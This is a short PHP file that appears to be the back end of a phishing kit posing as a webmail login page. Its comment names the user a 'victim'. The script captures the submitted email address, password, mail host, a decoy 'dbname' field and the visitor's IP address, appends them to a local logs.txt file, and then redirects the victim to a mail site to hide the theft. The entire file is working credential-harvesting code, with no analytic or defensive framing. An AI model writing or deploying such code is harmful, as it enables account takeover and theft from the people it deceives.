<?php
// webmail kit: the victim's address and password, logged with a "dbname" decoy field and
// the mail server the victim picked
$ip = $_SERVER['REMOTE_ADDR'];
$email = $_POST['email'];
$pass = $_POST['password'];
$host = $_POST['host'];
$dbname = $_POST['dbname'];
$line = "Email: $email | Pass: $pass | Host: $host | Box: $dbname | IP: $ip\n";
$fp = fopen('logs.txt', 'a');
fwrite($fp, $line);
fclose($fp);
header('Location: https://mail.example.com/');
